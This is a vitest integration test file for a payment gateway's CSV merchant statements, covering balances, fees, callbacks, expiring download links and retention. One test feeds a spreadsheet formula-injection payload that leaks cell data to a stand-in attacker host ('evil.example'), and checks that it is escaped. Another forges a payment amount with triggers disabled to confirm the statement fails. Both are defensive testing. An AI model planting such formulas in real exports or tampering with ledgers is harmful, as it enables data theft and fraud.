// Statements: that they say what the books say, to the last unit and at any time, anyone who makes them.
import { randomUUID } from 'node:crypto';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { suspendMerchant } from '../src/core/merchants/suspension.ts';
import { adjustWallet, settleWallet } from '../src/core/ledger/administer-wallets.ts';
import { DEFAULT_RETENTION, prune } from '../src/core/retention.ts';
import { readCases } from '../src/core/reconciliation/resolve-cases.ts';
import { makeNextStatement } from '../src/core/statements/statement-queue.ts';
import { parseAmount, renderAmount } from '../src/domain/money.ts';
import { inTransaction } from '../src/store/database.ts';
import { book, ensureAccounts, listWallets } from '../src/store/ledger/ledger.ts';
import { setFee } from '../src/store/merchants/merchants.ts';
import { claimStatement } from '../src/store/statements/statements.ts';
import { resolveCase } from './approvals.ts';
import { nowOf } from './clocks.ts';
import { openAccount, openToken, type Account } from './edge/accounts.ts';
import {
  call,
  depositRequest,
  eventually,
  openTestGateway,
  select,
  waitUntil,
  type TestGateway,
} from './gateway.ts';
import { start, startCompleted, topUp, waitForPayment } from './payments.ts';
import { payoutRequest, refundRequest, remittanceRequest, wallet } from './requests.ts';
import {
  amountIn,
  ask,
  expectToAddUp,
  fetchRows,
  readStatement,
  statementRequest,
  waitForStatement,
  type CsvRow,
} from './statement-files.ts';

const PROVIDER = 'MTN_MOMO_RWA';
const FRANCS = { country: 'RWA', currency: 'RWF' } as const;
const DAY_MS = 24 * 3_600_000;

let gateway: TestGateway;
beforeAll(async () => {
  gateway = await openTestGateway({
    simulator: { outcomeDelayMs: 50 },
    timing: { enquiryDelaysMs: [60_000] },
  });
});
afterAll(() => gateway.stop());

const pass = (ms: number) => gateway.gateway.movableClock!.move(ms);
const iso = (time: Date) => time.toISOString();
const now = () => nowOf(gateway.engine);

/** The last hour by the gateway's clock. */
const lastHour = (changes = {}) =>
  statementRequest({
    startDate: iso(new Date(now().getTime() - 3_600_000)),
    endDate: iso(new Date(now().getTime() + 3_600_000)),
    ...changes,
  });

/** Asks for a statement, lets the time pass that movements have to settle, and fetches it. */
async function statementOf(account: Account, request = lastHour()): Promise<readonly CsvRow[]> {
  const statementId = await ask(account, request);
  await pass(11_000);
  const record = await waitForStatement(account, statementId);
  expect(record['status']).toBe('COMPLETED');
  return fetchRows(record);
}

const OPERATIONS = ['DEPOSIT', 'PAYOUT', 'REFUND', 'REMITTANCE'] as const;

async function openMerchant(): Promise<Account> {
  return openAccount(gateway, { operations: OPERATIONS, providers: [PROVIDER] });
}

async function charge({ merchantId }: Account, operation: string, fixed: string): Promise<void> {
  const fee = { basisPoints: 0, fixed: parseAmount(fixed)! };
  const { database } = gateway.engine.store;
  await setFee(database, { merchantId, provider: PROVIDER, operation, currency: 'RWF', fee } as never);
}

async function walletOf({ merchantId }: Account) {
  const [found] = await listWallets(gateway.engine.store.database, merchantId);
  return found!;
}

const actor = ({ merchantId }: Account, amount: string) => ({
  by: 'test',
  merchantId,
  ...FRANCS,
  amount: amountIn(amount),
});

/** A deposit that fails, turns out to be paid, and is credited by two people. */
async function creditLateSuccess(account: Account): Promise<string> {
  gateway.simulator.addFault({ type: 'CONTRADICTING_NOTIFICATION' });
  const request = depositRequest({ payer: wallet(PROVIDER, '250783456039') });
  const id = await start(account, 'deposit', request);
  await waitForPayment(account, 'deposit', id, 'FAILED');
  const caseOf = async () =>
    (await readCases(gateway.engine, { onlyOpen: true })).find((found) => found.paymentId === id);
  await waitUntil(async () => (await caseOf()) !== undefined);
  const { caseId } = (await caseOf())!;
  await resolveCase(gateway.engine, { caseId, resolution: 'CREDIT_MERCHANT', reason: 'it came' });
  return id;
}

describe('a statement of a wallet that everything has happened to', () => {
  let account: Account;
  let rows: readonly CsvRow[];
  const ids: Record<string, string> = {};

  beforeAll(async () => {
    account = await openMerchant();
    for (const operation of OPERATIONS) await charge(account, operation, '7');
    await topUp(gateway, account.merchantId, '5000');
    ids['deposit'] = await startCompleted(
      account,
      'deposit',
      depositRequest({
        amount: '1000',
        clientReferenceId: 'INV-1',
        metadata: [{ order: 'ORD "1", first' }, { email: 'a@example.com', isPII: true }],
      }),
    );
    ids['payout'] = await startCompleted(account, 'payout', payoutRequest({ amount: '250' }));
    ids['refund'] = await startCompleted(
      account,
      'refund',
      refundRequest(ids['deposit'], { amount: '40', currency: 'RWF' }),
    );
    ids['remittance'] = await startCompleted(account, 'remittance', remittanceRequest({ amount: '60' }));
    // What fails or waits has moved nothing.
    const failed = payoutRequest({ recipient: wallet(PROVIDER, '250783456089') });
    await waitForPayment(account, 'payout', await start(account, 'payout', failed), 'FAILED');
    await settleWallet(gateway.engine, actor(account, '300'));
    await adjustWallet(gateway.engine, { ...actor(account, '-11'), reason: 'counted wrongly' });
    ids['credited'] = await creditLateSuccess(account);
    await start(account, 'payout', payoutRequest({ recipient: wallet(PROVIDER, '250783456129') }));
    rows = await statementOf(account);
  });

  test('a statement of a wallet that everything has happened to adds up to what the wallet holds in the books', async () => {
    const { opening, closing } = expectToAddUp(rows);
    expect(opening).toBe(0n);
    const { posted, held } = await walletOf(account);
    expect(closing).toBe(posted);
    // 100 and their fee wait; they are no movement yet.
    expect(renderAmount(held)).toBe('107');
  });

  test('a statement of a wallet that everything has happened to has a row for each movement, with amount, fee and net', () => {
    const told = rows.map(({ type, status, amount, fee, net, balance }) =>
      [type, status, amount, fee, net, balance].join(' '),
    );
    expect(told).toEqual([
      'OPENING_BALANCE     0',
      'TOP_UP  5000 0 5000 5000',
      'DEPOSIT COMPLETED 1000 7 993 5993',
      'PAYOUT COMPLETED -250 7 -257 5736',
      'REFUND COMPLETED -40 7 -47 5689',
      'REMITTANCE COMPLETED -60 7 -67 5622',
      'SETTLEMENT  -300 0 -300 5322',
      'ADJUSTMENT  -11 0 -11 5311',
      'CREDIT_MERCHANT FAILED 100 0 100 5411',
      'CLOSING_BALANCE     5411',
    ]);
  });

  test('a statement of a wallet that everything has happened to says of a payment who paid through whom, and what the merchant wrote about it', () => {
    const row = rows.find(({ type }) => type === 'DEPOSIT')!;
    expect(row).toMatchObject({
      id: ids['deposit'],
      currency: 'RWF',
      phoneNumber: '250783456789',
      provider: PROVIDER,
      clientReferenceId: 'INV-1',
    });
    expect(JSON.parse(row['metadata']!)).toEqual({ order: 'ORD "1", first', email: 'a@example.com' });
    expect(row['providerTransactionId']).not.toBe('');
    expect(row['completed']! >= row['created']!).toBe(true);
    expect(rows.find(({ type }) => type === 'CREDIT_MERCHANT')?.['id']).toBe(ids['credited']);
  });

  test('a statement of a wallet that everything has happened to is the same when it is compressed', async () => {
    const again = await statementOf(account, lastHour({ compressed: true }));
    expect(again.slice(1, -1)).toEqual(rows.slice(1, -1));
  });

  test('in two parts: the second opens with what the first closed with, and no movement is missing or twice', async () => {
    const parting = rows[4]!['completed']!;
    const [from, to] = [rows[0]!['completed']!, rows.at(-1)!['completed']!];
    const first = await statementOf(account, lastHour({ startDate: from, endDate: parting }));
    const second = await statementOf(account, lastHour({ startDate: parting, endDate: to }));
    expect(expectToAddUp(first).closing).toBe(expectToAddUp(second).opening);
    expect([...first.slice(1, -1), ...second.slice(1, -1)]).toEqual(rows.slice(1, -1));
    expect(second[1]).toEqual(rows[4]);
  });
});

test('what people wrote cannot be a formula', async () => {
  const account = await openMerchant();
  const formula = '=HYPERLINK("http://evil.example/?"&A1)';
  for (const clientReferenceId of [formula, '+1', '-1', '@SUM(A1)', '\t=1', 'plain\r\n"two, lines"']) {
    await startCompleted(
      account,
      'deposit',
      depositRequest({ clientReferenceId, metadata: [{ '=a': '=b' }] }),
    );
  }
  const rows = (await statementOf(account)).slice(1, -1);
  expect(rows.map((row) => row['clientReferenceId'])).toEqual([
    `'${formula}`,
    "'+1",
    "'-1",
    "'@SUM(A1)",
    "'\t=1",
    'plain\r\n"two, lines"',
  ]);
  expect(rows[0]!['metadata']).toBe('{"=a":"=b"}');
});

test('a movement that is being written while its statement is due is waited for, and is in it', async () => {
  const account = await openMerchant();
  await topUp(gateway, account.merchantId, '10');
  const { database } = gateway.engine.store;
  const at = now();
  const own = { type: 'WALLET', merchantId: account.merchantId, ...FRANCS, provider: '' } as const;
  const other = { type: 'CLEARING', ...FRANCS, provider: '' } as const;
  const subject = { merchantId: account.merchantId, kind: 'TOP_UP', id: randomUUID() };
  const legs = [{ debit: other, credit: own, amount: parseAmount('3')! }];
  let statementId = '';
  await inTransaction(database, async (tx) => {
    await ensureAccounts(tx, [own, other]);
    await book(tx, { posted: [{ subject, template: 'TOP_UP', firstLegNo: 0, legs }] }, at);
    statementId = await ask(account, lastHour());
    await pass(11_000);
    const tries = async () =>
      (
        await select(
          gateway,
          `select due_at > created_at + interval '10 seconds' as has_waited from statements
        where statement_id = $1`,
          [statementId],
        )
      )[0]!['has_waited'];
    await eventually(tries).toBe(true);
    expect((await readStatement(account, statementId))['status']).toBe('PROCESSING');
  });
  await pass(2_000);
  const rows = await fetchRows(await waitForStatement(account, statementId));
  expect(renderAmount(expectToAddUp(rows).closing)).toBe('13');
});

describe('the end of a statement', () => {
  test('the end of a statement is announced where its request said, signed like every callback, with what a status check says', async () => {
    const account = await openMerchant();
    const callbackUrl = `${gateway.receiver.url}/of-statements?for=${randomUUID()}`;
    const statementId = await ask(account, lastHour({ callbackUrl }));
    await pass(11_000);
    const record = await waitForStatement(account, statementId);
    const find = () => gateway.receiver.received.find(({ body }) => body['statementId'] === statementId);
    await eventually(find).toBeDefined();
    const { body, headers, path } = find()!;
    const { downloadUrl, downloadUrlExpiresAt, ...facts } = record;
    expect(body).toMatchObject(facts);
    expect(path).toBe(new URL(callbackUrl).pathname + new URL(callbackUrl).search);
    expect(headers['signature-input']).toContain('"content-digest"');
    expect(headers['malipo-event-id']).toBeDefined();
    await fetchRows(body);
    expect(body['downloadUrl']).not.toBe(downloadUrl);
    expect(new Date(downloadUrlExpiresAt).getTime()).toBeLessThanOrEqual(now().getTime() + DAY_MS);
    const callbacks = () =>
      select(gateway, `select kind, status from callbacks where payment_id = $1`, [statementId]);
    await eventually(callbacks).toEqual([{ kind: 'STATEMENT', status: 'DELIVERED' }]);
  });

  test('the end of a statement is tried again where no one answers, and an address that is gone is no trouble to the next statement', async () => {
    const account = await openMerchant();
    const callbackUrl = `${gateway.receiver.url}/gone`;
    const callbackOf = async (statementId: string) =>
      (await select(gateway, 'select status from callbacks where payment_id = $1', [statementId]))[0]?.[
        'status'
      ];
    gateway.receiver.answerWith({ status: 410 });
    const first = await ask(account, lastHour({ callbackUrl }));
    await pass(11_000);
    await eventually(() => callbackOf(first)).toBe('ABANDONED');
    gateway.receiver.answerWith({ status: 200 });
    const second = await ask(account, lastHour({ callbackUrl }));
    await pass(11_000);
    await eventually(() => callbackOf(second)).toBe('DELIVERED');
  });

  test('after a maker died comes from another one, whose file is the only one', async () => {
    const account = await openMerchant();
    await topUp(gateway, account.merchantId, '10');
    const statementId = await ask(account, lastHour({ endDate: iso(new Date(now().getTime() - 11_000)) }));
    const { database } = gateway.engine.store;
    const order = { now: now(), leasedUntil: new Date(now().getTime() + 60_000) };
    // The worker may have been quicker; then there is nothing to take over.
    const claim = await claimStatement(database, order);
    if (claim !== null) {
      await database.query(`insert into statement_chunks values ($1, $2, 1, 0, '\\x00')`, [
        account.merchantId,
        statementId,
      ]);
      await pass(61_000);
    }
    expect((await waitForStatement(account, statementId))['status']).toBe('COMPLETED');
    const chunks = () =>
      select(gateway, 'select distinct making_no from statement_chunks where statement_id = $1', [
        statementId,
      ]);
    await eventually(chunks).toEqual([{ making_no: claim === null ? 1 : 2 }]);
  });

  test('the end of a statement is FAILED, and announced so, when the books of the wallet do not add up, however often it is tried', async () => {
    const account = await openMerchant();
    const id = await startCompleted(account, 'deposit', depositRequest());
    const { database } = gateway.engine.store;
    const forge = (sql: string) =>
      inTransaction(database, async (tx) => {
        await tx.query('set local session_replication_role = replica');
        await tx.query(sql, [id]);
      });
    await forge(
      'update payments set amount = amount + 1, amount_text = (amount + 1)::text where payment_id = $1',
    );
    const statementId = await ask(account, lastHour({ callbackUrl: gateway.receiver.url }));
    await pass(11_000);
    const hasEnded = async () => (await readStatement(account, statementId))['status'] !== 'PROCESSING';
    // Each of the five tries starts a thread.
    await waitUntil(async () => (await hasEnded()) || (await pass(60_000).then(() => sleep(500)), false), {
      timeout: 60_000,
    });
    const [made] = await select(gateway, 'select making_no from statements where statement_id = $1', [
      statementId,
    ]);
    expect(made).toEqual({ making_no: 5 });
    const record = await waitForStatement(account, statementId);
    expect(record).toMatchObject({
      status: 'FAILED',
      failedAt: expect.any(String),
      failureReason: { failureCode: 'UNKNOWN_ERROR' },
    });
    const heard = () => gateway.receiver.received.filter(({ body }) => body['statementId'] === statementId);
    await eventually(() => heard().map(({ body }) => body)).toEqual([record]);
    expect(
      await select(gateway, 'select 1 from statement_chunks where statement_id = $1', [statementId]),
    ).toEqual([]);
  });
});

const statusOf = async (address: string) => (await fetch(address)).status;

describe('a link', () => {
  let account: Account;
  let statementId: string;
  let url: string;
  beforeAll(async () => {
    account = await openMerchant();
    await startCompleted(account, 'deposit', depositRequest());
    statementId = await ask(account, lastHour());
    await pass(11_000);
    url = (await waitForStatement(account, statementId))['downloadUrl'];
  });
  test('a link gives the file as a file, to be kept by no one on the way', async () => {
    const { headers, status } = await fetch(url);
    expect(status).toBe(200);
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect(headers.get('content-disposition')).toMatch(
      /^attachment; filename="statement-RWA-RWF-[\d-]+\.csv"$/,
    );
    expect(headers.get('cache-control')).toBe('no-store');
  });

  test('a link that is changed anywhere leads nowhere', async () => {
    const at = url.lastIndexOf('/') + 1;
    for (const place of [0, 20, 40, 55, 82]) {
      const other = url[at + place] === 'A' ? 'B' : 'A';
      expect(await statusOf(url.slice(0, at + place) + other + url.slice(at + place + 1))).toBe(404);
    }
    expect(await statusOf(url.slice(0, -1))).toBe(404);
    expect(await statusOf(`${url.slice(0, at)}${statementId}`)).toBe(404);
  });

  test('a link is dead after a day, and a status check gives another one', async () => {
    await pass(DAY_MS - 60_000);
    expect(await statusOf(url)).toBe(200);
    await pass(61_000);
    expect(await statusOf(url)).toBe(404);
    await fetchRows(await readStatement(account, statementId));
  });

  test('of a suspended merchant leads nowhere', async () => {
    const { merchantId } = account;
    const { downloadUrl } = await readStatement(account, statementId);
    await suspendMerchant(gateway.engine, { actor: { personId: null, by: 'test' }, merchantId });
    await eventually(() => statusOf(downloadUrl)).toBe(404);
  });
});

test('another merchant does not find the statement', async () => {
  const [owner, stranger] = [await openMerchant(), await openMerchant()];
  const statementId = await ask(owner);
  const { body } = await call(stranger, 'GET', `/v2/statements/${statementId}`);
  expect(body).toEqual({ status: 'NOT_FOUND' });
});

test('after the days it is kept, a statement, its file and its address are forgotten; its callback stays', async () => {
  const account = await openMerchant();
  const statementId = await ask(account, lastHour({ callbackUrl: `${gateway.receiver.url}/once` }));
  await pass(11_000);
  await waitForStatement(account, statementId);
  const count = async (sql: string) => (await select(gateway, sql, [statementId])).length;
  await eventually(() =>
    count(`select 1 from callbacks where payment_id = $1 and status = 'DELIVERED'`),
  ).toBe(1);
  await pass((DEFAULT_RETENTION.statementDays + 1) * DAY_MS);
  const kept = await ask(await openToken(gateway, account.merchantId), lastHour());
  await prune(gateway.engine, DEFAULT_RETENTION, () => false);
  for (const table of ['statement_chunks', 'statements']) {
    expect(await count(`select 1 from ${table} where statement_id = $1`), table).toBe(0);
  }
  expect(await count('select 1 from callbacks where payment_id = $1')).toBe(1);
  const urls = await select(gateway, 'select url from callback_endpoints where kind is null');
  expect(urls.map((row) => row['url'])).not.toContain(`${gateway.receiver.url}/once`);
  expect((await readStatement(account, kept))['status']).toBe('PROCESSING');
});

const make = () => Promise.reject(new Error('there is nothing to make'));

test('nothing that is due is left, and a maker without work says so', async () => {
  await pass(3_600_000);
  await eventually(() => select(gateway, 'select 1 from statements where due_at is not null')).toEqual([]);
  expect(await makeNextStatement(gateway.engine, { make, isStopping: () => false })).toBe(false);
});
